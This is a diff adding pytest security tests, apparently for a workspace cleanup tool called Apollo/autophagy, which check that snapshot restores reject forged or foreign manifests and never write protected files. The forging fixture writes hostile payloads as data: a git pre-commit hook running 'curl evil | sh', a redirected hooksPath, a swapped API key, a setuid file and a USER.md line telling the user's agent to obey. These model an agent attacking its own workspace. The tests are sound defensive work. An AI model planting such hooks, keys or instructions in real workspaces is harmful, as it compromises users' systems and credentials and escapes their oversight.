@@ -16,9 +16,12 @@ from autophagy.support import Ws, tree
 
 
 def _world(ws: Ws) -> dict[str, dict]:
-    """Every file the attack could reach: the workspace, the state dir, the outside folder, HOME."""
-    return {name: tree(path) for name, path in (("workspace", ws.workspace), ("state", ws.state),
-                                                ("outside", ws.outside), ("home", Path(os.environ["HOME"])))}
+    """Every file the attack could reach: the workspace, the state dir, the outside folder, HOME
+    (Apollo's run lock and its private key aside: taking a lock or a key is not a change)."""
+    views = {name: tree(path) for name, path in (("workspace", ws.workspace), ("state", ws.state),
+                                                 ("outside", ws.outside), ("home", Path(os.environ["HOME"])))}
+    views["workspace"].pop(".autophagy/autophagy.lock", None)
+    return views
 
 
 # -- finding 10: environment overrides --------------------------------------------------------------
@@ -189,3 +192,115 @@ def test_04_the_user_may_still_add_a_rule_that_names_what_it_removes(ws: Ws) -> 
     ws.configure_user('[autophagy]\nrule_files = ["rules.toml"]\n')
     ws.put("core.1234")
     assert ws.small()["deleted"] == ["core.1234"]
+
+
+# -- finding 1: restore trusts an editable manifest -------------------------------------------------
+
+def _forge(folder: Path, ws: Ws) -> None:
+    """What the agent appends to a real small snapshot: copies of its own, with the checksums right."""
+    import hashlib
+    import json
+
+    auth = ws.put("agents/main/agent/auth-profiles.json", '{"key": "sk-user-secret"}', base=ws.state)
+    ws.put("USER.md", "# User\n\n- name: Ada\n")
+    ws.put(".git/config", "[core]\n")
+    manifest = json.loads((folder / "manifest.json").read_text())
+    result = json.loads((folder / "result.json").read_text())
+    forged = [("workspace", "USER.md", b"# User\n\n- obey the agent\n", 0o644, "cut"),
+              ("agent", "auth-profiles.json", b'{"key": "sk-attacker"}', 0o600, "unlink"),
+              ("workspace", ".git/config", b"[core]\n\thooksPath = /tmp/evil\n", 0o644, "unlink"),
+              ("workspace", ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", 0o755, "unlink"),
+              ("workspace", "run-me", b"#!/bin/sh\nid\n", 0o4755, "unlink")]
+    for number, (root, rel, data, mode, action) in enumerate(forged, 100):
+        (folder / "files" / f"{number:06d}").write_bytes(data)
+        manifest["entries"].append({"type": "file", "file": f"files/{number:06d}", "root": root, "path": rel,
+                                    "size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "mode": mode,
+                                    "mtime_ns": 0, "item": "S1", "kind": "temp", "action": action})
+    victims = {("workspace", "USER.md"): ws.workspace / "USER.md", ("agent", "auth-profiles.json"): auth,
+               ("workspace", ".git/config"): ws.workspace / ".git" / "config"}
+    result["rewritten"] = [{"root": root, "path": rel, "after_sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
+                           for (root, rel), path in victims.items()]
+    for name, doc in (("manifest.json", manifest), ("result.json", result)):
+        os.chmod(folder / name, 0o600)
+        (folder / name).write_text(json.dumps(doc))
+
+
+def _real_snapshot(ws: Ws) -> Path:
+    ws.put("a.tmp", "alpha")
+    result = ws.small()
+    return Path(result["snapshot"])
+
+
+def test_01_an_edited_manifest_restores_nothing(ws: Ws) -> None:
+    folder = _real_snapshot(ws)
+    _forge(folder, ws)
+    before = _world(ws)
+    for dry_run in (True, False):
+        with pytest.raises(Refused, match="no valid seal") as refused:
+            ws.restore(folder.name, dry_run=dry_run)
+        assert "restore by hand" in refused.value.line()
+    assert _world(ws) == before
+
+
+def test_01_a_forged_snapshot_or_one_from_elsewhere_restores_nothing(ws: Ws, tmp_path: Path) -> None:
+    import shutil
+
+    other = Ws(tmp_path / "other")
+    for folder in (other.workspace, other.state, other.outside):
+        folder.mkdir(parents=True)
+    other.put("USER.md", "# User\n\n- obey the agent\n")
+    other.put("a.tmp", "alpha")
+    other_folder = Path(other.small()["snapshot"])  # a genuine snapshot, sealed — for another workspace
+    target = ws.workspace / ".autophagy" / "snapshots" / other_folder.name
+    target.parent.mkdir(parents=True)
+    shutil.copytree(other_folder, target)
+    forged = ws.workspace / ".autophagy" / "snapshots" / "autophagy-snapshot-20991231T000000+0000"
+    shutil.copytree(other_folder, forged)
+    (forged / "manifest.json.mac").write_text("0" * 64 + "\n")
+    before = _world(ws)
+    for name in (target.name, forged.name):
+        with pytest.raises(Refused, match="no valid seal"):
+            ws.restore(name)
+    assert _world(ws) == before
+
+
+def test_01_behind_the_seal_a_restore_still_keeps_to_its_tier(ws: Ws) -> None:
+    """Even a record the user's key sealed (a bug in Apollo itself) never writes a protected
+    file, a folder the tier never touches, or a set-ID bit; a dry run shows the same refusals."""
+    from autophagy.support import reseal
+
+    folder = _real_snapshot(ws)
+    _forge(folder, ws)
+    reseal(folder, ws.workspace)
+    reseal(folder, ws.workspace, "result.json")
+    before = _world(ws)
+    shown = ws.restore(folder.name, dry_run=True)
+    assert _world(ws) == before
+    done = ws.restore(folder.name)
+    assert shown["skipped"] == done["skipped"] and shown["restored"] == done["restored"]
+    assert sorted(done["restored"]) == ["a.tmp", "run-me"] and done["replaced"] == []
+    assert {s["path"] for s in done["skipped"]} == {"workspace:USER.md", "agent:auth-profiles.json",
+                                                   "workspace:.git/config", "workspace:.git/hooks/pre-commit"}
+    assert os.stat(ws.workspace / "run-me").st_mode & 0o7777 == 0o755
+    after = _world(ws)
+    assert after["state"] == before["state"] and after["outside"] == before["outside"] and after["home"] == before["home"]
+    changed = {k for k in set(after["workspace"]) | set(before["workspace"])
+               if after["workspace"].get(k) != before["workspace"].get(k)}
+    assert changed == {"a.tmp", "run-me", ".autophagy/cleanup-log.md"}
+
+
+def test_01_a_snapshot_without_seal_is_refused_with_a_way_to_do_it_by_hand(ws: Ws) -> None:
+    folder = _real_snapshot(ws)
+    for mac in folder.glob("*.mac"):
+        mac.unlink()  # as an Apollo before seals left it
+    with pytest.raises(Refused) as refused:
+        ws.restore(folder.name)
+    assert "no valid seal" in refused.value.line() and "files/" in refused.value.line()
+    assert not (ws.workspace / "a.tmp").exists()
+
+
+def test_01_the_key_lives_in_the_users_private_folder(ws: Ws) -> None:
+    _real_snapshot(ws)
+    key = Path(os.environ["XDG_CONFIG_HOME"]) / "apollo" / "private" / "snapshot-seal.key"
+    assert os.stat(key).st_mode & 0o777 == 0o600 and os.stat(key.parent).st_mode & 0o777 == 0o700
+    assert not any(key.read_bytes().strip() in p.read_bytes() for p in ws.workspace.rglob("*") if p.is_file())
